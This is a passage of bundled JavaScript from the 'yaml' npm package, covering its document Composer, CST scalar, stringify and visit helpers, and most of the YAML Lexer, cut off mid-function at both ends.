      const re = resolveEnd.resolveEnd(end, contentEnd, false, onError);
      if (re.comment)
        doc.comment = re.comment;
      doc.range = [offset, contentEnd, re.offset];
      return doc;
    }
    exports2.composeDoc = composeDoc;
  }
});

// node_modules/yaml/dist/compose/composer.js
var require_composer = __commonJS({
  "node_modules/yaml/dist/compose/composer.js"(exports2) {
    "use strict";
    var node_process = require("process");
    var directives = require_directives();
    var Document = require_Document();
    var errors = require_errors();
    var identity = require_identity();
    var composeDoc = require_compose_doc();
    var resolveEnd = require_resolve_end();
    function getErrorPos(src) {
      if (typeof src === "number")
        return [src, src + 1];
      if (Array.isArray(src))
        return src.length === 2 ? src : [src[0], src[1]];
      const { offset, source } = src;
      return [offset, offset + (typeof source === "string" ? source.length : 1)];
    }
    function parsePrelude(prelude) {
      let comment = "";
      let atComment = false;
      let afterEmptyLine = false;
      for (let i = 0; i < prelude.length; ++i) {
        const source = prelude[i];
        switch (source[0]) {
          case "#":
            comment += (comment === "" ? "" : afterEmptyLine ? "\n\n" : "\n") + (source.substring(1) || " ");
            atComment = true;
            afterEmptyLine = false;
            break;
          case "%":
            if (prelude[i + 1]?.[0] !== "#")
              i += 1;
            atComment = false;
            break;
          default:
            if (!atComment)
              afterEmptyLine = true;
            atComment = false;
        }
      }
      return { comment, afterEmptyLine };
    }
    var Composer = class {
      constructor(options = {}) {
        this.doc = null;
        this.atDirectives = false;
        this.prelude = [];
        this.errors = [];
        this.warnings = [];
        this.onError = (source, code3, message, warning) => {
          const pos = getErrorPos(source);
          if (warning)
            this.warnings.push(new errors.YAMLWarning(pos, code3, message));
          else
            this.errors.push(new errors.YAMLParseError(pos, code3, message));
        };
        this.directives = new directives.Directives({ version: options.version || "1.2" });
        this.options = options;
      }
      decorate(doc, afterDoc) {
        const { comment, afterEmptyLine } = parsePrelude(this.prelude);
        if (comment) {
          const dc = doc.contents;
          if (afterDoc) {
            doc.comment = doc.comment ? `${doc.comment}
${comment}` : comment;
          } else if (afterEmptyLine || doc.directives.docStart || !dc) {
            doc.commentBefore = comment;
          } else if (identity.isCollection(dc) && !dc.flow && dc.items.length > 0) {
            let it = dc.items[0];
            if (identity.isPair(it))
              it = it.key;
            const cb = it.commentBefore;
            it.commentBefore = cb ? `${comment}
${cb}` : comment;
          } else {
            const cb = dc.commentBefore;
            dc.commentBefore = cb ? `${comment}
${cb}` : comment;
          }
        }
        if (afterDoc) {
          for (let i = 0; i < this.errors.length; ++i)
            doc.errors.push(this.errors[i]);
          for (let i = 0; i < this.warnings.length; ++i)
            doc.warnings.push(this.warnings[i]);
        } else {
          doc.errors = this.errors;
          doc.warnings = this.warnings;
        }
        this.prelude = [];
        this.errors = [];
        this.warnings = [];
      }
      /**
       * Current stream status information.
       *
       * Mostly useful at the end of input for an empty stream.
       */
      streamInfo() {
        return {
          comment: parsePrelude(this.prelude).comment,
          directives: this.directives,
          errors: this.errors,
          warnings: this.warnings
        };
      }
      /**
       * Compose tokens into documents.
       *
       * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
       * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
       */
      *compose(tokens, forceDoc = false, endOffset = -1) {
        for (const token of tokens)
          yield* this.next(token);
        yield* this.end(forceDoc, endOffset);
      }
      /** Advance the composer by one CST token. */
      *next(token) {
        if (node_process.env.LOG_STREAM)
          console.dir(token, { depth: null });
        switch (token.type) {
          case "directive":
            this.directives.add(token.source, (offset, message, warning) => {
              const pos = getErrorPos(token);
              pos[0] += offset;
              this.onError(pos, "BAD_DIRECTIVE", message, warning);
            });
            this.prelude.push(token.source);
            this.atDirectives = true;
            break;
          case "document": {
            const doc = composeDoc.composeDoc(this.options, this.directives, token, this.onError);
            if (this.atDirectives && !doc.directives.docStart)
              this.onError(token, "MISSING_CHAR", "Missing directives-end/doc-start indicator line");
            this.decorate(doc, false);
            if (this.doc)
              yield this.doc;
            this.doc = doc;
            this.atDirectives = false;
            break;
          }
          case "byte-order-mark":
          case "space":
            break;
          case "comment":
          case "newline":
            this.prelude.push(token.source);
            break;
          case "error": {
            const msg = token.source ? `${token.message}: ${JSON.stringify(token.source)}` : token.message;
            const error = new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg);
            if (this.atDirectives || !this.doc)
              this.errors.push(error);
            else
              this.doc.errors.push(error);
            break;
          }
          case "doc-end": {
            if (!this.doc) {
              const msg = "Unexpected doc-end without preceding document";
              this.errors.push(new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg));
              break;
            }
            this.doc.directives.docEnd = true;
            const end = resolveEnd.resolveEnd(token.end, token.offset + token.source.length, this.doc.options.strict, this.onError);
            this.decorate(this.doc, true);
            if (end.comment) {
              const dc = this.doc.comment;
              this.doc.comment = dc ? `${dc}
${end.comment}` : end.comment;
            }
            this.doc.range[2] = end.offset;
            break;
          }
          default:
            this.errors.push(new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", `Unsupported token ${token.type}`));
        }
      }
      /**
       * Call at end of input to yield any remaining document.
       *
       * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
       * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
       */
      *end(forceDoc = false, endOffset = -1) {
        if (this.doc) {
          this.decorate(this.doc, true);
          yield this.doc;
          this.doc = null;
        } else if (forceDoc) {
          const opts = Object.assign({ _directives: this.directives }, this.options);
          const doc = new Document.Document(void 0, opts);
          if (this.atDirectives)
            this.onError(endOffset, "MISSING_CHAR", "Missing directives-end indicator line");
          doc.range = [0, endOffset, endOffset];
          this.decorate(doc, false);
          yield doc;
        }
      }
    };
    exports2.Composer = Composer;
  }
});

// node_modules/yaml/dist/parse/cst-scalar.js
var require_cst_scalar = __commonJS({
  "node_modules/yaml/dist/parse/cst-scalar.js"(exports2) {
    "use strict";
    var resolveBlockScalar = require_resolve_block_scalar();
    var resolveFlowScalar = require_resolve_flow_scalar();
    var errors = require_errors();
    var stringifyString = require_stringifyString();
    function resolveAsScalar(token, strict = true, onError) {
      if (token) {
        const _onError = (pos, code3, message) => {
          const offset = typeof pos === "number" ? pos : Array.isArray(pos) ? pos[0] : pos.offset;
          if (onError)
            onError(offset, code3, message);
          else
            throw new errors.YAMLParseError([offset, offset + 1], code3, message);
        };
        switch (token.type) {
          case "scalar":
          case "single-quoted-scalar":
          case "double-quoted-scalar":
            return resolveFlowScalar.resolveFlowScalar(token, strict, _onError);
          case "block-scalar":
            return resolveBlockScalar.resolveBlockScalar({ options: { strict } }, token, _onError);
        }
      }
      return null;
    }
    function createScalarToken(value, context) {
      const { implicitKey = false, indent, inFlow = false, offset = -1, type = "PLAIN" } = context;
      const source = stringifyString.stringifyString({ type, value }, {
        implicitKey,
        indent: indent > 0 ? " ".repeat(indent) : "",
        inFlow,
        options: { blockQuote: true, lineWidth: -1 }
      });
      const end = context.end ?? [
        { type: "newline", offset: -1, indent, source: "\n" }
      ];
      switch (source[0]) {
        case "|":
        case ">": {
          const he = source.indexOf("\n");
          const head = source.substring(0, he);
          const body = source.substring(he + 1) + "\n";
          const props = [
            { type: "block-scalar-header", offset, indent, source: head }
          ];
          if (!addEndtoBlockProps(props, end))
            props.push({ type: "newline", offset: -1, indent, source: "\n" });
          return { type: "block-scalar", offset, indent, props, source: body };
        }
        case '"':
          return { type: "double-quoted-scalar", offset, indent, source, end };
        case "'":
          return { type: "single-quoted-scalar", offset, indent, source, end };
        default:
          return { type: "scalar", offset, indent, source, end };
      }
    }
    function setScalarValue(token, value, context = {}) {
      let { afterKey = false, implicitKey = false, inFlow = false, type } = context;
      let indent = "indent" in token ? token.indent : null;
      if (afterKey && typeof indent === "number")
        indent += 2;
      if (!type)
        switch (token.type) {
          case "single-quoted-scalar":
            type = "QUOTE_SINGLE";
            break;
          case "double-quoted-scalar":
            type = "QUOTE_DOUBLE";
            break;
          case "block-scalar": {
            const header = token.props[0];
            if (header.type !== "block-scalar-header")
              throw new Error("Invalid block scalar header");
            type = header.source[0] === ">" ? "BLOCK_FOLDED" : "BLOCK_LITERAL";
            break;
          }
          default:
            type = "PLAIN";
        }
      const source = stringifyString.stringifyString({ type, value }, {
        implicitKey: implicitKey || indent === null,
        indent: indent !== null && indent > 0 ? " ".repeat(indent) : "",
        inFlow,
        options: { blockQuote: true, lineWidth: -1 }
      });
      switch (source[0]) {
        case "|":
        case ">":
          setBlockScalarValue(token, source);
          break;
        case '"':
          setFlowScalarValue(token, source, "double-quoted-scalar");
          break;
        case "'":
          setFlowScalarValue(token, source, "single-quoted-scalar");
          break;
        default:
          setFlowScalarValue(token, source, "scalar");
      }
    }
    function setBlockScalarValue(token, source) {
      const he = source.indexOf("\n");
      const head = source.substring(0, he);
      const body = source.substring(he + 1) + "\n";
      if (token.type === "block-scalar") {
        const header = token.props[0];
        if (header.type !== "block-scalar-header")
          throw new Error("Invalid block scalar header");
        header.source = head;
        token.source = body;
      } else {
        const { offset } = token;
        const indent = "indent" in token ? token.indent : -1;
        const props = [
          { type: "block-scalar-header", offset, indent, source: head }
        ];
        if (!addEndtoBlockProps(props, "end" in token ? token.end : void 0))
          props.push({ type: "newline", offset: -1, indent, source: "\n" });
        for (const key2 of Object.keys(token))
          if (key2 !== "type" && key2 !== "offset")
            delete token[key2];
        Object.assign(token, { type: "block-scalar", indent, props, source: body });
      }
    }
    function addEndtoBlockProps(props, end) {
      if (end)
        for (const st of end)
          switch (st.type) {
            case "space":
            case "comment":
              props.push(st);
              break;
            case "newline":
              props.push(st);
              return true;
          }
      return false;
    }
    function setFlowScalarValue(token, source, type) {
      switch (token.type) {
        case "scalar":
        case "double-quoted-scalar":
        case "single-quoted-scalar":
          token.type = type;
          token.source = source;
          break;
        case "block-scalar": {
          const end = token.props.slice(1);
          let oa = source.length;
          if (token.props[0].type === "block-scalar-header")
            oa -= token.props[0].source.length;
          for (const tok of end)
            tok.offset += oa;
          delete token.props;
          Object.assign(token, { type, source, end });
          break;
        }
        case "block-map":
        case "block-seq": {
          const offset = token.offset + source.length;
          const nl = { type: "newline", offset, indent: token.indent, source: "\n" };
          delete token.items;
          Object.assign(token, { type, source, end: [nl] });
          break;
        }
        default: {
          const indent = "indent" in token ? token.indent : -1;
          const end = "end" in token && Array.isArray(token.end) ? token.end.filter((st) => st.type === "space" || st.type === "comment" || st.type === "newline") : [];
          for (const key2 of Object.keys(token))
            if (key2 !== "type" && key2 !== "offset")
              delete token[key2];
          Object.assign(token, { type, indent, source, end });
        }
      }
    }
    exports2.createScalarToken = createScalarToken;
    exports2.resolveAsScalar = resolveAsScalar;
    exports2.setScalarValue = setScalarValue;
  }
});

// node_modules/yaml/dist/parse/cst-stringify.js
var require_cst_stringify = __commonJS({
  "node_modules/yaml/dist/parse/cst-stringify.js"(exports2) {
    "use strict";
    var stringify = (cst) => "type" in cst ? stringifyToken(cst) : stringifyItem(cst);
    function stringifyToken(token) {
      switch (token.type) {
        case "block-scalar": {
          let res = "";
          for (const tok of token.props)
            res += stringifyToken(tok);
          return res + token.source;
        }
        case "block-map":
        case "block-seq": {
          let res = "";
          for (const item of token.items)
            res += stringifyItem(item);
          return res;
        }
        case "flow-collection": {
          let res = token.start.source;
          for (const item of token.items)
            res += stringifyItem(item);
          for (const st of token.end)
            res += st.source;
          return res;
        }
        case "document": {
          let res = stringifyItem(token);
          if (token.end)
            for (const st of token.end)
              res += st.source;
          return res;
        }
        default: {
          let res = token.source;
          if ("end" in token && token.end)
            for (const st of token.end)
              res += st.source;
          return res;
        }
      }
    }
    function stringifyItem({ start, key: key2, sep, value }) {
      let res = "";
      for (const st of start)
        res += st.source;
      if (key2)
        res += stringifyToken(key2);
      if (sep)
        for (const st of sep)
          res += st.source;
      if (value)
        res += stringifyToken(value);
      return res;
    }
    exports2.stringify = stringify;
  }
});

// node_modules/yaml/dist/parse/cst-visit.js
var require_cst_visit = __commonJS({
  "node_modules/yaml/dist/parse/cst-visit.js"(exports2) {
    "use strict";
    var BREAK = /* @__PURE__ */ Symbol("break visit");
    var SKIP = /* @__PURE__ */ Symbol("skip children");
    var REMOVE = /* @__PURE__ */ Symbol("remove item");
    function visit(cst, visitor) {
      if ("type" in cst && cst.type === "document")
        cst = { start: cst.start, value: cst.value };
      _visit(Object.freeze([]), cst, visitor);
    }
    visit.BREAK = BREAK;
    visit.SKIP = SKIP;
    visit.REMOVE = REMOVE;
    visit.itemAtPath = (cst, path14) => {
      let item = cst;
      for (const [field, index2] of path14) {
        const tok = item?.[field];
        if (tok && "items" in tok) {
          item = tok.items[index2];
        } else
          return void 0;
      }
      return item;
    };
    visit.parentCollection = (cst, path14) => {
      const parent = visit.itemAtPath(cst, path14.slice(0, -1));
      const field = path14[path14.length - 1][0];
      const coll = parent?.[field];
      if (coll && "items" in coll)
        return coll;
      throw new Error("Parent collection not found");
    };
    function _visit(path14, item, visitor) {
      let ctrl = visitor(item, path14);
      if (typeof ctrl === "symbol")
        return ctrl;
      for (const field of ["key", "value"]) {
        const token = item[field];
        if (token && "items" in token) {
          for (let i = 0; i < token.items.length; ++i) {
            const ci = _visit(Object.freeze(path14.concat([[field, i]])), token.items[i], visitor);
            if (typeof ci === "number")
              i = ci - 1;
            else if (ci === BREAK)
              return BREAK;
            else if (ci === REMOVE) {
              token.items.splice(i, 1);
              i -= 1;
            }
          }
          if (typeof ctrl === "function" && field === "key")
            ctrl = ctrl(item, path14);
        }
      }
      return typeof ctrl === "function" ? ctrl(item, path14) : ctrl;
    }
    exports2.visit = visit;
  }
});

// node_modules/yaml/dist/parse/cst.js
var require_cst = __commonJS({
  "node_modules/yaml/dist/parse/cst.js"(exports2) {
    "use strict";
    var cstScalar = require_cst_scalar();
    var cstStringify = require_cst_stringify();
    var cstVisit = require_cst_visit();
    var BOM = "\uFEFF";
    var DOCUMENT = "";
    var FLOW_END = "";
    var SCALAR = "";
    var isCollection = (token) => !!token && "items" in token;
    var isScalar3 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
    function prettyToken(token) {
      switch (token) {
        case BOM:
          return "<BOM>";
        case DOCUMENT:
          return "<DOC>";
        case FLOW_END:
          return "<FLOW_END>";
        case SCALAR:
          return "<SCALAR>";
        default:
          return JSON.stringify(token);
      }
    }
    function tokenType(source) {
      switch (source) {
        case BOM:
          return "byte-order-mark";
        case DOCUMENT:
          return "doc-mode";
        case FLOW_END:
          return "flow-error-end";
        case SCALAR:
          return "scalar";
        case "---":
          return "doc-start";
        case "...":
          return "doc-end";
        case "":
        case "\n":
        case "\r\n":
          return "newline";
        case "-":
          return "seq-item-ind";
        case "?":
          return "explicit-key-ind";
        case ":":
          return "map-value-ind";
        case "{":
          return "flow-map-start";
        case "}":
          return "flow-map-end";
        case "[":
          return "flow-seq-start";
        case "]":
          return "flow-seq-end";
        case ",":
          return "comma";
      }
      switch (source[0]) {
        case " ":
        case "	":
          return "space";
        case "#":
          return "comment";
        case "%":
          return "directive-line";
        case "*":
          return "alias";
        case "&":
          return "anchor";
        case "!":
          return "tag";
        case "'":
          return "single-quoted-scalar";
        case '"':
          return "double-quoted-scalar";
        case "|":
        case ">":
          return "block-scalar-header";
      }
      return null;
    }
    exports2.createScalarToken = cstScalar.createScalarToken;
    exports2.resolveAsScalar = cstScalar.resolveAsScalar;
    exports2.setScalarValue = cstScalar.setScalarValue;
    exports2.stringify = cstStringify.stringify;
    exports2.visit = cstVisit.visit;
    exports2.BOM = BOM;
    exports2.DOCUMENT = DOCUMENT;
    exports2.FLOW_END = FLOW_END;
    exports2.SCALAR = SCALAR;
    exports2.isCollection = isCollection;
    exports2.isScalar = isScalar3;
    exports2.prettyToken = prettyToken;
    exports2.tokenType = tokenType;
  }
});

// node_modules/yaml/dist/parse/lexer.js
var require_lexer = __commonJS({
  "node_modules/yaml/dist/parse/lexer.js"(exports2) {
    "use strict";
    var cst = require_cst();
    function isEmpty(ch) {
      switch (ch) {
        case void 0:
        case " ":
        case "\n":
        case "\r":
        case "	":
          return true;
        default:
          return false;
      }
    }
    var hexDigits = new Set("0123456789ABCDEFabcdef");
    var tagChars = new Set("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-#;/?:@&=+$_.!~*'()");
    var flowIndicatorChars = new Set(",[]{}");
    var invalidAnchorChars = new Set(" ,[]{}\n\r	");
    var isNotAnchorChar = (ch) => !ch || invalidAnchorChars.has(ch);
    var Lexer = class {
      constructor() {
        this.atEnd = false;
        this.blockScalarIndent = -1;
        this.blockScalarKeep = false;
        this.buffer = "";
        this.flowKey = false;
        this.flowLevel = 0;
        this.indentNext = 0;
        this.indentValue = 0;
        this.lineEndPos = null;
        this.next = null;
        this.pos = 0;
      }
      /**
       * Generate YAML tokens from the `source` string. If `incomplete`,
       * a part of the last line may be left as a buffer for the next call.
       *
       * @returns A generator of lexical tokens
       */
      *lex(source, incomplete = false) {
        if (source) {
          if (typeof source !== "string")
            throw TypeError("source is not a string");
          this.buffer = this.buffer ? this.buffer + source : source;
          this.lineEndPos = null;
        }
        this.atEnd = !incomplete;
        let next = this.next ?? "stream";
        while (next && (incomplete || this.hasChars(1)))
          next = yield* this.parseNext(next);
      }
      atLineEnd() {
        let i = this.pos;
        let ch = this.buffer[i];
        while (ch === " " || ch === "	")
          ch = this.buffer[++i];
        if (!ch || ch === "#" || ch === "\n")
          return true;
        if (ch === "\r")
          return this.buffer[i + 1] === "\n";
        return false;
      }
      charAt(n) {
        return this.buffer[this.pos + n];
      }
      continueScalar(offset) {
        let ch = this.buffer[offset];
        if (this.indentNext > 0) {
          let indent = 0;
          while (ch === " ")
            ch = this.buffer[++indent + offset];
          if (ch === "\r") {
            const next = this.buffer[indent + offset + 1];
            if (next === "\n" || !next && !this.atEnd)
              return offset + indent + 1;
          }
          return ch === "\n" || indent >= this.indentNext || !ch && !this.atEnd ? offset + indent : -1;
        }
        if (ch === "-" || ch === ".") {
          const dt = this.buffer.substr(offset, 3);
          if ((dt === "---" || dt === "...") && isEmpty(this.buffer[offset + 3]))
            return -1;
        }
        return offset;
      }
      getLine() {
        let end = this.lineEndPos;
        if (typeof end !== "number" || end !== -1 && end < this.pos) {
          end = this.buffer.indexOf("\n", this.pos);
          this.lineEndPos = end;
        }
        if (end === -1)
          return this.atEnd ? this.buffer.substring(this.pos) : null;
        if (this.buffer[end - 1] === "\r")
          end -= 1;
        return this.buffer.substring(this.pos, end);
      }
      hasChars(n) {
        return this.pos + n <= this.buffer.length;
      }
      setNext(state) {
        this.buffer = this.buffer.substring(this.pos);
        this.pos = 0;
        this.lineEndPos = null;
        this.next = state;
        return null;
      }
      peek(n) {
        return this.buffer.substr(this.pos, n);
      }
      *parseNext(next) {
        switch (next) {
          case "stream":
            return yield* this.parseStream();
          case "line-start":
            return yield* this.parseLineStart();
          case "block-start":
            return yield* this.parseBlockStart();
          case "doc":
            return yield* this.parseDocument();
          case "flow":
            return yield* this.parseFlowCollection();
          case "quoted-scalar":
            return yield* this.parseQuotedScalar();
          case "block-scalar":
            return yield* this.parseBlockScalar();
          case "plain-scalar":
            return yield* this.parsePlainScalar();
        }
      }
      *parseStream() {
        let line = this.getLine();
        if (line === null)
          return this.setNext("stream");
        if (line[0] === cst.BOM) {
          yield* this.pushCount(1);
          line = line.substring(1);
        }
        if (line[0] === "%") {
          let dirEnd = line.length;
          let cs = line.indexOf("#");
          while (cs !== -1) {
            const ch = line[cs - 1];
            if (ch === " " || ch === "	") {
              dirEnd = cs - 1;
              break;
            } else {
              cs = line.indexOf("#", cs + 1);
            }
          }
          while (true) {
            const ch = line[dirEnd - 1];
            if (ch === " " || ch === "	")
              dirEnd -= 1;
            else
              break;
          }
          const n = (yield* this.pushCount(dirEnd)) + (yield* this.pushSpaces(true));
          yield* this.pushCount(line.length - n);
          this.pushNewline();
          return "stream";
        }
        if (this.atLineEnd()) {
          const sp = yield* this.pushSpaces(true);
          yield* this.pushCount(line.length - sp);
          yield* this.pushNewline();
          return "stream";
        }
        yield cst.DOCUMENT;
        return yield* this.parseLineStart();
      }
      *parseLineStart() {
        const ch = this.charAt(0);
        if (!ch && !this.atEnd)
          return this.setNext("line-start");
        if (ch === "-" || ch === ".") {
          if (!this.atEnd && !this.hasChars(4))
            return this.setNext("line-start");
          const s = this.peek(3);
          if ((s === "---" || s === "...") && isEmpty(this.charAt(3))) {
            yield* this.pushCount(3);
            this.indentValue = 0;
            this.indentNext = 0;
            return s === "---" ? "doc" : "stream";
          }
        }
        this.indentValue = yield* this.pushSpaces(false);
        if (this.indentNext > this.indentValue && !isEmpty(this.charAt(1)))
          this.indentNext = this.indentValue;
        return yield* this.parseBlockStart();
      }
      *parseBlockStart() {
        const [ch0, ch1] = this.peek(2);
        if (!ch1 && !this.atEnd)
          return this.setNext("block-start");
        if ((ch0 === "-" || ch0 === "?" || ch0 === ":") && isEmpty(ch1)) {
          const n = (yield* this.pushCount(1)) + (yield* this.pushSpaces(true));
          this.indentNext = this.indentValue + 1;
          this.indentValue += n;
          return "block-start";
        }
        return "doc";
      }
      *parseDocument() {
        yield* this.pushSpaces(true);
        const line = this.getLine();
        if (line === null)
          return this.setNext("doc");
        let n = yield* this.pushIndicators();
        switch (line[n]) {
          case "#":
            yield* this.pushCount(line.length - n);
          // fallthrough
          case void 0:
            yield* this.pushNewline();
            return yield* this.parseLineStart();
          case "{":
          case "[":
            yield* this.pushCount(1);
            this.flowKey = false;
            this.flowLevel = 1;
            return "flow";
          case "}":
          case "]":
            yield* this.pushCount(1);
            return "doc";
          case "*":
            yield* this.pushUntil(isNotAnchorChar);
            return "doc";
          case '"':
          case "'":
            return yield* this.parseQuotedScalar();
          case "|":
          case ">":
            n += yield* this.parseBlockScalarHeader();
            n += yield* this.pushSpaces(true);
            yield* this.pushCount(line.length - n);
            yield* this.pushNewline();
            return yield* this.parseBlockScalar();
          default:
            return yield* this.parsePlainScalar();
        }
      }
      *parseFlowCollection() {
        let nl, sp;
        let indent = -1;
        do {
          nl = yield* this.pushNewline();
          if (nl > 0) {
            sp = yield* this.pushSpaces(false);
            this.indentValue = indent = sp;
          } else {
            sp = 0;
          }
          sp += yield* this.pushSpaces(true);
        } while (nl + sp > 0);
        const line = this.getLine();
        if (line === null)
          return this.setNext("flow");
        if (indent !== -1 && indent < this.indentNext && line[0] !== "#" || indent === 0 && (line.startsWith("---") || line.startsWith("...")) && isEmpty(line[3])) {
          const atFlowEndMarker = indent === this.indentNext - 1 && this.flowLevel === 1 && (line[0] === "]" || line[0] === "}");
          if (!atFlowEndMarker) {
            this.flowLevel = 0;
            yield cst.FLOW_END;
            return yield* this.parseLineStart();
          }
        }
        let n = 0;
        while (line[n] === ",") {
          n += yield* this.pushCount(1);
          n += yield* this.pushSpaces(true);
          this.flowKey = false;
        }
        n += yield* this.pushIndicators();
        switch (line[n]) {
          case void 0:
            return "flow";
          case "#":
            yield* this.pushCount(line.length - n);
            return "flow";
          case "{":
          case "[":
            yield* this.pushCount(1);
            this.flowKey = false;
            this.flowLevel += 1;
            return "flow";
          case "}":
          case "]":
            yield* this.pushCount(1);
            this.flowKey = true;
            this.flowLevel -= 1;
            return this.flowLevel ? "flow" : "doc";
          case "*":
            yield* this.pushUntil(isNotAnchorChar);
            return "flow";
          case '"':
          case "'":
            this.flowKey = true;
            return yield* this.parseQuotedScalar();
          case ":": {
            const next = this.charAt(1);
            if (this.flowKey || isEmpty(next) || next === ",") {
              this.flowKey = false;
              yield* this.pushCount(1);
              yield* this.pushSpaces(true);
              return "flow";
            }
          }
          // fallthrough
          default:
            this.flowKey = false;
            return yield* this.parsePlainScalar();
        }
      }
      *parseQuotedScalar() {
        const quote2 = this.charAt(0);
        let end = this.buffer.indexOf(quote2, this.pos + 1);
        if (quote2 === "'") {
          while (end !== -1 && this.buffer[end + 1] === "'")
            end = this.buffer.indexOf("'", end + 2);
        } else {
          while (end !== -1) {
            let n = 0;
            while (this.buffer[end - 1 - n] === "\\")
              n += 1;
            if (n % 2 === 0)
              break;
            end = this.buffer.indexOf('"', end + 1);
          }
        }
        const qb = this.buffer.substring(0, end);
        let nl = qb.indexOf("\n", this.pos);
        if (nl !== -1) {
          while (nl !== -1) {
            const cs = this.continueScalar(nl + 1);
            if (cs === -1)
              break;
            nl = qb.indexOf("\n", cs);
          }
          if (nl !== -1) {
            end = nl - (qb[nl - 1] === "\r" ? 2 : 1);
          }
        }
        if (end === -1) {
          if (!this.atEnd)
            return this.setNext("quoted-scalar");
          end = this.buffer.length;
        }
        yield* this.pushToIndex(end + 1, false);
        return this.flowLevel ? "flow" : "doc";
      }
      *parseBlockScalarHeader() {
        this.blockScalarIndent = -1;
        this.blockScalarKeep = false;
        let i = this.pos;
        while (true) {
          const ch = this.buffer[++i];
          if (ch === "+")
            this.blockScalarKeep = true;
          else if (ch > "0" && ch <= "9")
            this.blockScalarIndent = Number(ch) - 1;
          else if (ch !== "-")
            break;
        }
        return yield* this.pushUntil((ch) => isEmpty(ch) || ch === "#");
      }
      *parseBlockScalar() {
        let nl = this.pos - 1;
        let indent = 0;
        let ch;
        loop: for (let i2 = this.pos; ch = this.buffer[i2]; ++i2) {
          switch (ch) {
            case " ":
              indent += 1;
              break;
            case "\n":
              nl = i2;
              indent = 0;
              break;
            case "\r": {
              const next = this.buffer[i2 + 1];
              if (!next && !this.atEnd)
                return this.setNext("block-scalar");
              if (next === "\n")
                break;
            }
            // fallthrough
            default:
              break loop;
          }
        }
        if (!ch && !this.atEnd)
          return this.setNext("block-scalar");
        if (indent >= this.indentNext) {
          if (this.blockScalarIndent === -1)
            this.indentNext = indent;
          else {
            this.indentNext = this.blockScalarIndent + (this.indentNext === 0 ? 1 : this.indentNext);
          }
          do {
            const cs = this.continueScalar(nl + 1);
            if (cs === -1)
              break;
            nl = this.buffer.indexOf("\n", cs);
          } while (nl !== -1);
          if (nl === -1) {
            if (!this.atEnd)
              return this.setNext("block-scalar");
            nl = this.buffer.length;
          }
        }
        let i = nl + 1;
        ch = this.buffer[i];
        while (ch === " ")
          ch = this.buffer[++i];
        if (ch === "	") {
          while (ch === "	" || ch === " " || ch === "\r" || ch === "\n")
            ch = this.buffer[++i];
          nl = i - 1;
        } else if (!this.blockScalarKeep) {
          do {
            let i2 = nl - 1;
            let ch2 = this.buffer[i2];
            if (ch2 === "\r")
              ch2 = this.buffer[--i2];
            const lastChar = i2;
            while (ch2 === " ")
              ch2 = this.buffer[--i2];
            if (ch2 === "\n" && i2 >= this.pos && i2 + 1 + indent > lastChar)
              nl = i2;
            else
              break;
          } while (true);
        }
        yield cst.SCALAR;
        yield* this.pushToIndex(nl + 1, true);
        return yield* this.parseLineStart();
      }
      *parsePlainScalar() {
        const inFlow = this.flowLevel > 0;
        let end = this.pos - 1;
        let i = this.pos - 1;
        let ch;
        while (ch = this.buffer[++i]) {
          if (ch === ":") {
            const next = this.buffer[i + 1];
            if (isEmpty(next) || inFlow && flowIndicatorChars.has(next))
              break;
            end = i;
          } else if (isEmpty(ch)) {
            let next = this.buffer[i + 1];
            if (ch === "\r") {
              if (next === "\n") {
                i += 1;
                ch = "\n";
                next = this.buffer[i + 1];
              } else
                end = i;
            }
            if (next === "#" || inFlow && flowIndicatorChars.has(next))
              break;
            if (ch === "\n") {
              const cs = this.continueScalar(i + 1);
              if (cs === -1)
                break;
              i = Math.max(i, cs - 2);
            }
          } else {
            if (inFlow && flowIndicatorChars.has(ch))
              break;
            end = i;
          }
        }
        if (!ch && !this.atEnd)
          return this.setNext("plain-scalar");
        yield cst.SCALAR;
        yield* this.pushToIndex(end + 1, true);
        return inFlow ? "flow" : "doc";
      }
      *pushCount(n) {
        if (n > 0) {
          yield this.buffer.substr(this.pos, n);
          this.pos += n;
          return n;
        }
        return 0;
      }
      *pushToIndex(i, allowEmpty) {
        const s = this.buffer.slice(this.pos, i);
        if (s) {
          yield s;
          this.pos += s.length;
          return s.length;
        } else if (allowEmpty)
          yield "";
        return 0;
      }
      *pushIndicators() {
        let n = 0;
        loop: while (true) {
          switch (this.charAt(0)) {
            case "!":
              n += yield* this.pushTag();
              n += yield* this.pushSpaces(true);
              continue loop;
            case "&":
              n += yield* this.pushUntil(isNotAnchorChar);
              n += yield* this.pushSpaces(true);
              continue loop;
            case "-":
            // this is an error
            case "?":
            // this is an error outside flow collections
            case ":": {
              const inFlow = this.flowLevel > 0;
              const ch1 = this.charAt(1);
              if (isEmpty(ch1) || inFlow && flowIndicatorChars.has(ch1)) {
                if (!inFlow)
                  this.indentNext = this.indentValue + 1;
                else if (this.flowKey)
                  this.flowKey = false;
                n += yield* this.pushCount(1);
                n += yield* this.pushSpaces(true);
                continue loop;
              }
            }
          }
          break loop;
        }
        return n;
      }
      *pushTag() {
        if (this.charAt(1) === "<") {
          let i = this.pos + 2;
          let ch = this.buffer[i];
          while (!isEmpty(ch) && ch !== ">")
            ch = this.buffer[++i];
          return yield* this.pushToIndex(ch === ">" ? i + 1 : i, false);
        } else {
          let i = this.pos + 1;
          let ch = this.buffer[i];
          while (ch) {
            if (tagChars.has(ch))
              ch = this.buffer[++i];
            else if (ch === "%" && hexDigits.has(this.buffer[i + 1]) && hexDigits.has(this.buffer[i + 2])) {
              ch = this.buffer[i += 3];
            } else
              break;
          }
          return yield* this.pushToIndex(i, false);
        }
      }
      *pushNewline() {
        const ch = this.buffer[this.pos];
        if (ch === "\n")
          return yield* this.pushCount(1);
        else if (ch === "\r" && this.charAt(1) === "\n")
          return yield* this.pushCount(2);
        else
          return 0;
      }
      *pushSpaces(allowTabs) {
        let i = this.pos - 1;
        let ch;
        do {
          ch = this.buffer[++i];
        } while (ch === " " || allowTabs && ch === "	");
